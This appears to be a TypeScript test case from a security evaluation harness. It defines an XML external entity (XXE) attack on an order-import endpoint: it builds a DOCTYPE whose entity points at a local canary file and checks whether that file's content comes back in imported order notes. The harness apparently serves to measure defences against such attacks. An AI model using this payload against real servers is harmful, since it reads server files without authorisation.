import { pathToFileURL } from "node:url";
import type { Attack } from "../attack.ts";
import { summary } from "../exchange.ts";
import { feed, importedNotes, importFeed, importTwin } from "./shared/requests.ts";

export const xxeExternalEntity: Attack = {
  id: "xxe-external-entity",
  title: "Read a file of the server by an XML entity",
  owasp: ["SAS-4", "CWE-611"],
  paper: "III.2.C",
  defences: ["function:xml-doctype"],
  operation: "importOrders",
  target: "order-import",
  run: async (context) => {
    const { path, content } = context.canary;
    const doctype = `<!DOCTYPE orders [<!ENTITY file SYSTEM "${pathToFileURL(path).href}">]>`;
    const answer = await context.send(importFeed(context, feed("&file;", doctype)));
    const effect = importedNotes(answer).some((note) => note.includes(content));
    return { effect, evidence: effect ? `the order's note is the file's content: "${content}"` : summary(answer) };
  },
  twin: importTwin,
};
